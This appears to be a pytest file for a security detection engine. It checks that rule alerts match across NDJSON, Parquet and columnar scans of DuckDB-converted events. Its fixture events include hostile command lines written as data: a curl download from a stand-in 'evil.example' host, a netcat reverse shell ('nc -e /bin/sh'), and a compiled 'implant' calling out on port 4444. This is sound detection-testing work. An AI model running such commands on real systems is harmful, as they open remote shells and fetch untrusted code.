"""Events whose fields change shape from one event to the next, converted to Parquet
by DuckDB (``read_json_auto`` then ``COPY ... (FORMAT parquet)``): the plain Parquet
reader and the columnar scan give the alerts the NDJSON scan gives.

DuckDB types such a field JSON (a string here and a list there, an object here and a
string there, a number here and a string there) and stores each value as JSON text;
read as text, ``process.args`` ``["gcc", "-o", "payload"]`` became the string
``'["gcc","-o","payload"]'`` and a sequence joined on it never fired.
"""

from __future__ import annotations

from datetime import UTC, datetime

import orjson
import pytest

from vigil.engine import Engine
from vigil.engine.batch import scan_paths
from vigil.events.readers import ReadStats
from vigil.rules.loaders import load_rules

duckdb = pytest.importorskip("duckdb")

NOW = datetime(2026, 12, 1, tzinfo=UTC)
# Network Connection via Recently Compiled Executable (a sequence joined on process.args).
COMPILED = "64cfca9e-0f6f-4048-8251-9ec56a055e9e"
EVENT_RULES = {
    "e0cc3807-e108-483c-bf66-5a4fbe0d7e89": "Potentially Suspicious Process Started via tmux or screen",
    "a1329140-8de3-4445-9f87-908fb6d824f4": "File Deletion via Shred",
    "da0ebebe-5ad3-4277-95e7-889f5a69b959": "System Information Discovery via dmidecode from Parent Shell",
}


def _event(second: int, **fields) -> dict:
    doc = {
        # Milliseconds written out, so that the Parquet timestamp prints back the same text
        # and each event keeps its content (and so its alerts their ids).
        "@timestamp": f"2024-05-01T10:00:{second:02d}.000Z",
        "host": {"id": "h1", "name": "web-1", "os": {"type": "linux"}},
        "agent": {"type": "endpoint"},
    }
    doc.update(fields)
    return doc


def _exec(second: int, name: str, args, parent) -> dict:
    event = {"category": ["process"], "type": ["start"], "action": "exec", "kind": "event"}
    return _event(second, event=event, process={"name": name, "args": args, "parent": parent})


def events(category_as_text: bool) -> list[dict]:
    process_category = "process" if category_as_text else ["process"]
    return [
        # The compiled executable's path is the compiler's argument: a list, and a string
        # in the run where the compiler was logged with a single argument.
        _exec(1, "gcc", "payload", {"name": "bash", "executable": "/usr/bin/bash"}),
        _event(
            2,
            event={"category": ["file"], "type": ["creation"], "action": "creation"},
            process={"name": "ld", "args": ["ld", "-o", "payload"], "parent": "gcc"},
            file={"name": "payload", "path": "/tmp/payload"},
        ),
        _exec(3, "payload", ["./payload"], {"name": "bash", "args": ["bash", "-c", "./payload"]}),
        _event(
            4,
            event={"category": ["network"], "type": ["start"], "action": "connection_attempted"},
            process={"name": "payload", "args": ["./payload"], "parent": "bash"},
            destination={"ip": "8.8.8.8", "port": 4444},
        ),
        # The same story joined on a list of arguments.
        _exec(11, "cc", ["cc", "-o", "implant", "implant.c"], "bash"),
        _event(
            12,
            event={"category": ["file"], "type": ["creation"], "action": "creation"},
            process={"name": "collect2", "args": "collect2 -o implant", "parent": {"name": "cc"}},
            file={"name": "implant"},
        ),
        _exec(13, "implant", "implant", {"name": "sh", "pid": 42}),
        _event(
            14,
            event={"category": ["network"], "type": ["start"], "action": "connection_attempted"},
            process={"name": "implant", "parent": {"name": "sh"}},
            destination={"ip": "1.1.1.1", "port": "443"},
        ),
        # Shells and downloaders, for the event rules reading mixed-shape fields.
        _exec(21, "curl", ["curl", "-o", "/tmp/x", "http://evil.example/x"], {"name": "sh", "pid": 7}),
        _exec(22, "nc", "nc -e /bin/sh 10.0.0.9 4444", {"name": "bash"}),
        _event(
            23,
            event={"category": process_category, "type": ["start"], "action": "exec"},
            process={"name": "id"},
        ),
        # Fires "Potentially Suspicious Process Started via tmux or screen" (process.parent.name).
        _exec(24, "id", ["id"], {"name": "tmux"}),
        # Fires "File Deletion via Shred" (process.args in ("--remove", "--zero")).
        _exec(25, "shred", "--remove", {"name": "bash"}),
        # Fires "System Information Discovery via dmidecode from Parent Shell" (process.parent.args).
        _exec(26, "dmidecode", ["dmidecode"], {"name": "bash", "args": ["bash", "-c", "dmidecode"]}),
    ]


def _alert_ids(alerts) -> list[tuple[str, str]]:
    return sorted((a["kibana.alert.rule.rule_id"], a["kibana.alert.uuid"]) for a in alerts)


def _three_ways(rules, tmp_path, docs):
    from vigil.engine.columnar import ColumnarReport, scan_parquet
    from vigil.events.parquet import read_parquet

    src = tmp_path / "events.ndjson"
    src.write_bytes(b"".join(orjson.dumps(d) + b"\n" for d in docs))
    out = tmp_path / "events.parquet"
    duckdb.sql(f"COPY (SELECT * FROM read_json_auto('{src}', sample_size=-1)) TO '{out}' (FORMAT parquet)")
    ndjson = _alert_ids(scan_paths(Engine(rules, now=NOW), [src], stats=ReadStats()))
    plain = _alert_ids(Engine(rules, now=NOW).scan(read_parquet(out)))
    report = ColumnarReport()
    columnar = _alert_ids(scan_parquet(Engine(rules, now=NOW), out, report=report))
    return ndjson, plain, columnar, report, out


def test_duckdb_types_the_mixed_fields_json(tmp_path):
    *_, out = _three_ways([], tmp_path, events(False))
    types = {r[0]: r[1] for r in duckdb.sql(f"DESCRIBE SELECT * FROM '{out}'").fetchall()}
    assert "args JSON" in types["process"]
    assert "parent JSON" in types["process"]
    assert "port JSON" in types["destination"]


def test_parquet_reader_gives_back_the_values(tmp_path):
    from vigil.events.parquet import read_parquet

    docs = events(False)
    *_, out = _three_ways([], tmp_path, docs)
    assert [e.doc for e in read_parquet(out)] == docs


@pytest.fixture(scope="module")
def compiled_rule(shared):
    rules = load_rules([shared / "detection-rules" / "rules" / "linux"]).rules
    return [r for r in rules if r.rule_id == COMPILED]


def test_the_compiled_executable_sequence_fires_on_every_path(compiled_rule, tmp_path):
    assert len(compiled_rule) == 1
    ndjson, plain, columnar, _, _ = _three_ways(compiled_rule, tmp_path, events(False))
    # Both stories: the sequence and its four building events, each.
    assert sum(1 for rid, _ in ndjson if rid == COMPILED) == 10
    assert plain == ndjson
    assert columnar == ndjson


@pytest.mark.parametrize("category_as_text", [False, True])
def test_every_prebuilt_rule_fires_alike_on_every_path(prebuilt_rules, tmp_path, category_as_text):
    ndjson, plain, columnar, report, _ = _three_ways(prebuilt_rules, tmp_path, events(category_as_text))
    assert {rid for rid, _ in ndjson} >= {COMPILED, *EVENT_RULES}
    assert plain == ndjson
    assert columnar == ndjson
    assert report.unconfirmed == 0
    # Rules reading a JSON column run in Python, the others stay in SQL (none when
    # event.category, which every event rule reads, is a JSON column).
    assert any("JSON column" in why for why in report.plain_rules.values())
    assert bool(report.sql_rules) != category_as_text
